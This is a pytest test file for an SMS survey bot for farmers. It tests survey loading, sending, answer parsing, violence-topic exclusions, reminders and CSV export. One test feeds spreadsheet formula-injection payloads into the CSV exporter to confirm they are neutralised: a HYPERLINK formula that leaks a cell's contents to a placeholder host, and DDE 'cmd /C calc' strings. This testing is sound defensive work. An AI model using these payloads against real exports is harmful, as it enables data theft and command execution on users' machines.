"""Surveys: file validation, sending once, safety exclusions, answers by SMS, reminders, results."""
from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.proactive import broadcasts
from bot.surveys import service as surveys
from bot.conversations.engine import Inbound
from bot.jobs import JOBS
from bot.services import services
from bot.scheduler import TIMETABLE
from bot.surveys.results import results, write_csv
from models import (Broadcast, Contact, ConversationState, Message, OutboxMessage, Survey, SurveyAnswer,
                    SurveyParticipant)
from tests.fakes.outbox import NOON, add_contacts
from tests.fakes.outbox import app, db  # noqa: F401 - fixtures

SAMPLE = Path(__file__).resolve().parents[2] / "flows" / "data" / "surveys" / "cosecha-2026.yml"
PHONE = "+51910000000"  # FAKE: the first number add_contacts hands out


def load_sample(db) -> int:
    with db.session() as s:
        return surveys.load(s, SAMPLE, NOON)[0].id


def send(db, survey_id: int, segment: dict | None = None, now=NOON) -> dict:
    with db.session() as s:
        return surveys.send(s, s.get(Survey, survey_id), segment or {}, now)


def participant(db, contact_id: int) -> SurveyParticipant:
    with db.session() as s:
        return s.scalar(select(SurveyParticipant).where(SurveyParticipant.contact_id == contact_id))


def answers(db) -> dict:
    with db.session() as s:
        return {a.question_key: (a.value, a.skipped) for a in s.scalars(select(SurveyAnswer))}


def outbox(db) -> list[OutboxMessage]:
    with db.session() as s:
        return list(s.scalars(select(OutboxMessage).order_by(OutboxMessage.id)))


# ---- files ----
def test_sample_file_loads_and_reloading_changes_nothing(app, db):
    with db.session() as s:
        survey, what = surveys.load(s, SAMPLE, NOON)
        assert (what, survey.status, len(survey.questions)) == ("created", "draft", 4)
        assert [q["type"] for q in survey.questions] == ["choice", "number", "yes_no", "text"]
        assert "Equipo Chaski" in survey.source and str(survey.source_date) == "2026-11-20"
    with db.session() as s:
        assert surveys.load(s, SAMPLE, NOON)[1] == "unchanged"
        assert s.scalar(select(func.count()).select_from(Survey)) == 1


BAD = """\
slug: Mala Encuesta
title: x
source: ONG
owner: a@b.example
date: 2026-11-20
intro:
  fr: bonjour
questions:
  - key: uno
    type: choice
    text: {es: "Elija"}
    options:
      - {value: a, es: A}
  - key: uno
    type: number
    text: {es: "Cuanto"}
    min: 10
    max: 1
  - key: tres
    type: color
    text: {qu: "Mana"}
"""


def test_a_bad_file_is_refused_with_every_problem_and_its_line(app, db, tmp_path):
    path = tmp_path / "mala.yml"
    path.write_text(BAD, encoding="utf-8")
    with pytest.raises(surveys.SurveyError) as exc, db.session() as s:
        surveys.load(s, path, NOON)
    message = str(exc.value)
    for expected in (f"{path}:1: slug: use lower-case", f"{path}:7: intro: needs a Spanish text",
                     f"{path}:13: questions.0.options: a choice needs 2 to 9",
                     f"{path}:14: questions.1.key: repeated key 'uno'",
                     f"{path}:18: questions.1.max: max 1 is below min 10",
                     f"{path}:20: questions.2.type: must be one of",
                     f"{path}:21: questions.2.text: needs a Spanish text"):
        assert expected in message, message
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(Survey)) == 0
    path.write_text("slug: [unclosed", encoding="utf-8")
    with pytest.raises(surveys.SurveyError, match="not valid YAML"):
        surveys.read_file(path)
    with pytest.raises(surveys.SurveyError, match="no such file"):
        surveys.read_file(tmp_path / "none.yml")


# ---- sending ----
def test_send_invites_once_with_the_first_question_in_the_outbox(app, db):
    with db.session() as s:
        contacts = add_contacts(s, 3)
        add_contacts(s, 1, start=910_000_100, region="puno", language="qu")
    sid = load_sample(db)
    assert send(db, sid, {"region": ["junin"]}) == {
        "recipients": 3, "invited": 3, "already_invited": 0, "queued": 3}
    assert send(db, sid, {"region": ["junin"]})["invited"] == 0  # sending again adds nobody
    rows = outbox(db)
    assert [r.key for r in rows] == [f"survey:{sid}:contact:{c.id}:invite" for c in contacts]
    assert {(r.source, r.topic, r.channel) for r in rows} == {("survey", "survey", "sms")}
    assert rows[0].body.startswith("Chaski: 4 preguntas cortas")
    assert "1/4 ¿Qué cultivo le dio más este año?\n1 Papa 2 Maíz 3 Quinua 4 Otro" in rows[0].body
    assert "SALTAR" in rows[0].body and "BAJA" in rows[0].body
    with db.session() as s:
        survey = s.get(Survey, sid)
        assert survey.status == "sending" and survey.closes_at == NOON + timedelta(days=14)
        assert rows[0].not_after == survey.closes_at
    assert send(db, sid, {})["invited"] == 1  # a wider segment later adds only the new contact
    assert outbox(db)[-1].body.startswith("Chaski: 4 tapukuy")  # Quechua intro, Spanish fallback


def test_whatsapp_only_inside_the_24_hour_window_else_sms(app, db):
    with db.session() as s:
        recent = add_contacts(s, 1, channels=["sms", "whatsapp"],
                              last_whatsapp_inbound_at=NOON - timedelta(hours=2))[0]
        old = add_contacts(s, 1, start=910_000_100, channels=["whatsapp"],
                           last_whatsapp_inbound_at=NOON - timedelta(days=3))[0]
    send(db, load_sample(db))
    assert {r.contact_id: r.channel for r in outbox(db)} == {recent.id: "whatsapp", old.id: "sms"}
    assert {participant(db, recent.id).channel, participant(db, old.id).channel} == {"whatsapp", "sms"}


def test_nobody_near_a_conversation_about_violence_is_invited(app, db, talk):
    with db.session() as s:
        ok, stopped, in_support, violence_history = add_contacts(s, 4)
        stopped.opted_out_at = NOON
        s.add(ConversationState(contact_id=in_support.id, flow="support", step="options",
                                expires_at=NOON + timedelta(hours=1)))
        s.add(Message(contact_id=violence_history.id, direction="in", channel="sms", body=None,
                      redacted=True, status="received", created_at=NOON - timedelta(days=10)))
        ids = (ok.id, stopped.id, in_support.id, violence_history.id)
    sid = load_sample(db)
    assert send(db, sid)["invited"] == 1
    assert [r.contact_id for r in outbox(db)] == [ids[0]]
    # Forty days later neither the expired conversation nor the old message excludes them.
    with db.session() as s:
        later = NOON + timedelta(days=40)
        assert [c.id for c in surveys.audience(s, {}, later)] == [ids[0], ids[2], ids[3]]


def test_a_violence_topic_can_never_be_a_survey_message(app, db):
    with db.session() as s:
        add_contacts(s, 1)
    sid = load_sample(db)
    from bot.outbound.outbox import enqueue
    from bot.outbound.policy import RefusedTopic

    with pytest.raises(RefusedTopic), db.session() as s:
        enqueue(s, key="x", source="survey", contact_id=1, channel="sms", body="x", now=NOON,
                topic="support")
    assert send(db, sid)["queued"] == 1


# ---- answering by SMS (through the engine) ----
@pytest.fixture
def invited(app, db, clock):
    clock(NOON + timedelta(hours=1))  # the engine asks the app's clock: an hour after the invitation
    with db.session() as s:
        contact = add_contacts(s, 1)[0]
    sid = load_sample(db)
    send(db, sid)
    return contact.id


def test_the_whole_survey_by_sms_every_question_type(app, db, talk, invited):
    assert talk("2", phone=PHONE) == ["2/4 ¿Cuantos kilos cosecho de ese cultivo? (0-20000 kg)"]
    assert participant(db, invited).status == "answering"
    assert talk("350 kg", phone=PHONE)[0].startswith("3/4 ¿Uso biol")
    assert talk("ari", phone=PHONE)[0].startswith("4/4 ¿Qué taller")
    assert talk("Control de rancha en papa", phone=PHONE) == [
        "¡Gracias! Sus respuestas ayudan a planificar los talleres."]
    assert answers(db) == {"cultivo": ("maiz", False), "cosecha_kg": ("350", False),
                           "usa_biol": ("si", False),
                           "comentario": ("Control de rancha en papa", False)}
    p = participant(db, invited)
    assert (p.status, p.question_index, p.finished_at is not None) == ("completed", 4, True)
    assert talk("1", phone=PHONE)[0].startswith("Precios")  # afterwards "1" is the menu again


def test_days_later_only_a_readable_answer_goes_to_the_survey(app, db, invited):
    engine = services(app).engine
    later = NOON + timedelta(days=3)
    other = engine.handle(Inbound(address=PHONE, body="cuanto esta la papa"), later).replies
    assert not other[0].startswith(("No entendi", "2/4")) and participant(db, invited).status == "invited"
    assert engine.handle(Inbound(address=PHONE, body="2"), later).replies[0].startswith("2/4")
    p = participant(db, invited)
    assert (p.status, p.last_answer_at) == ("answering", later)
    with db.session() as s:  # a conversation that asked something after the survey did goes first
        contact = s.get(Contact, invited)
        assert surveys.open_turn(s, contact, later, later - timedelta(minutes=5)).fresh
        assert not surveys.open_turn(s, contact, later, later + timedelta(minutes=5)).fresh
        assert not surveys.open_turn(s, contact, later + timedelta(hours=25)).fresh


def test_an_unreadable_answer_is_asked_again_once_then_skipped(app, db, talk, invited):
    first = talk("7", phone=PHONE)  # no option 7
    assert first[0].startswith("No entendi. Responde solo con el numero")
    assert "1/4" in first[0] and participant(db, invited).invalid_count == 1
    second = talk("papas", phone=PHONE)  # "papas" is not an option label either
    assert second[0].startswith("Pasamos a la siguiente.\n2/4")
    assert talk("dos mil", phone=PHONE)[0].startswith("No entendi. Responde solo con un numero")
    assert talk("1,5", phone=PHONE)[0].startswith("3/4")  # a decimal comma
    assert talk("saltar", phone=PHONE)[0].startswith("4/4")
    assert talk("SALTAR", phone=PHONE)[0].startswith("¡Gracias!")
    assert answers(db) == {"cultivo": (None, True), "cosecha_kg": ("1.5", False),
                           "usa_biol": (None, True), "comentario": (None, True)}


def test_out_of_range_number_and_zero_as_an_answer(app, db, talk, invited):
    talk("papa", phone=PHONE)  # an option's label works as well as its number
    assert talk("50000", phone=PHONE)[0].startswith("No entendi")
    assert talk("0", phone=PHONE)[0].startswith("3/4")  # 0 kg is a valid answer, not MENU
    assert answers(db)["cosecha_kg"] == ("0", False) and answers(db)["cultivo"] == ("papa", False)


def test_thousands_separators_and_units_in_numbers(app, db, talk, invited):
    talk("1", phone=PHONE)
    assert talk("1.500 kg", phone=PHONE)[0].startswith("3/4")
    assert answers(db)["cosecha_kg"] == ("1500", False)
    with db.session() as s:
        survey = s.scalar(select(Survey))
        with pytest.raises(surveys.SurveyError, match="closed"):
            surveys.send(s, survey, {}, NOON + timedelta(days=15))


def test_stop_ends_the_survey_and_no_reminder_follows(app, db, talk, invited):
    talk("1", phone=PHONE)
    talk("BAJA", phone=PHONE)
    p = participant(db, invited)
    assert p.status == "stopped" and p.finished_at is not None
    assert talk("2", phone=PHONE)[0] != "3/4"  # a stopped contact only hears how to come back
    assert answers(db) == {"cultivo": ("papa", False)}
    with db.session() as s:
        assert JOBS["send_survey_reminders"](s, NOON + timedelta(days=3))["reminded"] == 0


def test_menu_leaves_the_survey_and_the_menu_is_shown(app, db, talk, invited):
    reply = talk("menu", phone=PHONE)[0]
    assert reply.startswith("Saliste de la encuesta.") and "1 Precios" in reply
    assert participant(db, invited).status == "left"
    assert "Precios" not in talk("2", phone=PHONE)[0]  # "2" is the climate menu again


def test_emergency_words_win_and_end_the_survey(app, db, talk, invited):
    assert [r.status for r in outbox(db)] == ["queued"]  # e.g. held by quiet hours
    reply = talk("me pega mi esposo", phone=PHONE)
    assert "105" in reply[0]
    assert participant(db, invited).status == "left"
    assert [r.status for r in outbox(db)] == ["canceled"]  # the invitation never goes out
    assert talk("1", phone=PHONE)[0] != "2/4"  # inside support: never a survey question
    assert answers(db) == {}


# ---- reminders and closing ----
def test_one_reminder_to_those_who_never_answered_then_expiry(app, db, talk):
    with db.session() as s:
        silent, answering, stopped = add_contacts(s, 3)
        ids = (silent.id, answering.id, stopped.id)
    sid = load_sample(db)
    send(db, sid)
    services(app).engine.handle(Inbound(address="+51910000001", body="1"), NOON + timedelta(hours=1))
    with db.session() as s:
        s.get(type(silent), ids[2]).opted_out_at = NOON
    remind = JOBS["send_survey_reminders"]
    with db.session() as s:
        assert remind(s, NOON + timedelta(hours=47)) == {"closed": 0, "expired": 0, "reminded": 0}
    for _ in range(2):  # twice: still one reminder
        with db.session() as s:
            counts = remind(s, NOON + timedelta(hours=49))
    reminders = [r for r in outbox(db) if r.key.endswith(":reminder")]
    assert [r.contact_id for r in reminders] == [ids[0]]
    assert reminders[0].key == f"survey:{sid}:contact:{ids[0]}:reminder"
    assert reminders[0].body.startswith("Recordatorio") and counts["reminded"] == 0
    with db.session() as s:
        assert remind(s, NOON + timedelta(days=15)) == {"closed": 1, "expired": 3, "reminded": 0}
    assert participant(db, ids[0]).status == "expired"
    assert participant(db, ids[1]).status == "expired"
    assert "send-survey-reminders" in TIMETABLE


# ---- results, CSV, segments by answer ----
def answer_all(app, db, clock, n_contacts=3):
    clock(NOON + timedelta(hours=1))  # the engine asks the app's clock: answers an hour after sending
    with db.session() as s:
        contacts = add_contacts(s, n_contacts)
    sid = load_sample(db)
    send(db, sid)
    engine = services(app).engine
    scripts = [["1", "100", "si", "Biol"], ["1", "300", "2", "Semillas"], ["3", "saltar", "no"]]
    for contact, script in zip(contacts, scripts):
        for body in script:
            engine.handle(Inbound(address=contact.phone, body=body))
    return sid, contacts


def test_results_per_question_and_csv(app, db, clock):
    sid, contacts = answer_all(app, db, clock)
    with db.session() as s:
        r = results(s, s.get(Survey, sid))
    assert r["rates"]["invited"] == 3 and r["rates"]["answered"] == 3
    assert r["rates"]["completed"] == 2 and r["rates"]["by_status"]["answering"] == 1
    cultivo, kilos, biol, comentario = r["questions"]
    assert cultivo["counts"] == [("Papa", 2), ("Maíz", 0), ("Quinua", 1), ("Otro", 0)]
    assert kilos["figures"] == {"min": 100.0, "median": 200.0, "mean": 200.0, "max": 300.0}
    assert (kilos["n"], kilos["skipped"]) == (2, 1)
    assert biol["counts"] == [("Sí", 1), ("No", 2)]
    assert sorted(comentario["latest"]) == ["Biol", "Semillas"]
    out = io.StringIO()
    with db.session() as s:
        assert write_csv(s, s.get(Survey, sid), out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["phone"] == contacts[0].phone[:-4] + "****"
    assert (rows[0]["cultivo"], rows[0]["cosecha_kg"], rows[0]["comentario"]) == ("papa", "100", "Biol")
    assert (rows[2]["cosecha_kg"], rows[2]["status"], rows[2]["comentario"]) == (
        "(saltada)", "answering", "")


@pytest.mark.parametrize("answer, written", [
    ('=HYPERLINK("http://x.example/?"&A1,"ver")', '\'=HYPERLINK("http://x.example/?"&A1,"ver")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("-12", "-12"),                  # a negative number stays a number
    ("+51900000123", "+51900000123"),  # so does a phone number
    ("sin problemas", "sin problemas"),
])
def test_survey_csv_answers_never_run_as_formulas(app, db, clock, answer, written):
    sid, _contacts = answer_all(app, db, clock)
    with db.session() as s:
        row = s.scalars(select(SurveyAnswer).where(SurveyAnswer.question_key == "comentario")
                        .order_by(SurveyAnswer.participant_id)).first()
        row.value = answer  # as an SMS answer arrives (a tab survives only from the database)
    out = io.StringIO()
    with db.session() as s:
        write_csv(s, s.get(Survey, sid), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["comentario"] == written
    assert rows[0]["phone"].startswith("+51")  # the masked phone is untouched


def test_a_broadcast_can_target_people_by_survey_answer(app, db, clock):
    sid, contacts = answer_all(app, db, clock)
    with db.session() as s:
        b = broadcasts.create(s, name="biol", texts={"es": "Taller de biol el sábado"}, now=NOON,
                              segment={"survey_answer": {"survey": "cosecha-2026",
                                                         "question": "usa_biol", "answer": "no"}})
        assert [p[0] for p in broadcasts.audience(s, b, NOON)] == [contacts[1].id, contacts[2].id]
    with pytest.raises(broadcasts.BroadcastError, match="survey_answer"), db.session() as s:
        broadcasts.create(s, name="x", texts={"es": "x"}, now=NOON,
                          segment={"survey_answer": {"survey": "cosecha-2026"}})
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(Broadcast)) == 1
    run = app.test_cli_runner().invoke
    created = run(args=["broadcast", "create", "--name", "biol", "--text", "es=Taller de biol",
                        "--survey-answer", "cosecha-2026:usa_biol=si"])
    assert created.exit_code == 0, created.output
    preview = run(args=["broadcast", "preview", created.output.split()[1]])
    assert "recipients: 1 (SMS 1, WhatsApp 0)" in preview.output
    bad = run(args=["broadcast", "create", "--name", "x", "--text", "es=x", "--survey-answer", "x"])
    assert bad.exit_code == 2 and "SURVEY:QUESTION=ANSWER" in bad.output


# ---- CLI ----
def test_cli_load_send_results_export(app, db, tmp_path):
    with db.session() as s:
        add_contacts(s, 2)
    run = app.test_cli_runner().invoke
    loaded = run(args=["survey", "load", str(SAMPLE)])
    assert loaded.exit_code == 0 and "cosecha-2026: created (4 questions, draft)" in loaded.output
    dry = run(args=["survey", "send", "cosecha-2026", "--region", "junin", "--dry-run"])
    assert "2 contact(s) in this segment" in dry.output
    sent = run(args=["survey", "send", "cosecha-2026", "--region", "junin"])
    assert sent.exit_code == 0 and "2 contact(s) invited, 0 already invited" in sent.output
    services(app).engine.handle(Inbound(address=PHONE, body="4"))
    listed = run(args=["survey", "list"])
    assert "cosecha-2026" in listed.output and "answered      1 (50%)" in listed.output
    shown = run(args=["survey", "results", "cosecha-2026"])
    assert shown.exit_code == 0 and "Otro                      1" in shown.output
    target = tmp_path / "out.csv"
    exported = run(args=["survey", "export", "cosecha-2026", "--csv", str(target), "--full-phone"])
    assert exported.exit_code == 0, exported.output
    assert PHONE in target.read_text(encoding="utf-8")
    missing = run(args=["survey", "results", "nada"])
    assert missing.exit_code == 1 and "no survey 'nada'" in missing.output
    bad = tmp_path / "bad.yml"
    bad.write_text("slug: x\n", encoding="utf-8")
    refused = run(args=["survey", "load", str(bad)])
    assert refused.exit_code == 1 and "title: missing" in refused.output
    closed = run(args=["survey", "close", "cosecha-2026"])
    assert "closed; 2 open participation(s) expired" in closed.output


@pytest.mark.parametrize("command", ["load", "list", "send", "results", "export", "close"])
def test_survey_commands_have_help(app, command):
    result = app.test_cli_runner().invoke(args=["survey", command, "--help"])
    assert result.exit_code == 0 and len(result.output.splitlines()[2]) > 10
